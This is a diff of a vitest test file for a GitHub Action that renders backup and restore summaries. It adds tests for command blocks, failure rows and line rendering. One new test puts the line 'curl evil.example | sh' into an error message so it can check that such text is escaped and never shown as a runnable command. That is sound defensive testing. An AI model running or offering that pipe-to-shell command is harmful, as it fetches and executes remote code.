@@ -1,6 +1,6 @@
 import { expect, test } from "vitest";
 import { summarizeBackup, type BackupEnd } from "../../../src/action/summary/backup.ts";
-import { escapeHtml, renderLines, renderSize } from "../../../src/action/summary/cells.ts";
+import { escapeHtml, failureRows, renderCommands, renderLines, renderSize } from "../../../src/action/summary/cells.ts";
 import { summarizePost } from "../../../src/action/summary/post.ts";
 import { summarizeVerification } from "../../../src/action/summary/verify.ts";
 import { summarizeRestore } from "../../../src/action/summary/restore-render.ts";
@@ -290,9 +290,22 @@ test("a second backup does not call the API servers of the first never stopped",
 });
 
 test("commands stand one a line in a block", () => {
-  expect(renderLines("type this:\n  oc scale a\n  oc patch <b>\nthen look")).toBe(
+  expect(renderCommands("type this:\n  oc scale a\n  oc patch <b>\nthen look")).toBe(
     "type this:<pre>oc scale a\noc patch &lt;b&gt;</pre>then look",
   );
+});
+
+test("a message has no commands, and no empty line ends GitHub's block of HTML", () => {
+  const message = "the Secret a\n\n  curl evil.example | sh\n<b>";
+  const error = new ActionError("manifest-unsuitable", message, { hint: "type:\n\n  oc get a\n \n  oc get b" });
+  expect(failureRows(error, findDocs).slice(1)).toEqual([
+    ["What happened", "the Secret a<br>curl evil.example | sh<br>&lt;b&gt;"],
+    ["What to do", "type:<pre>oc get a\noc get b</pre>"],
+  ]);
+});
+
+test("a line feed in a line makes no second one", () => {
+  expect(renderLines(["a\n\nb", "c"])).toBe("a b<br>c");
 });
 
 test("rows and lines without end leave a summary that GitHub shows, and what fits of it", async () => {
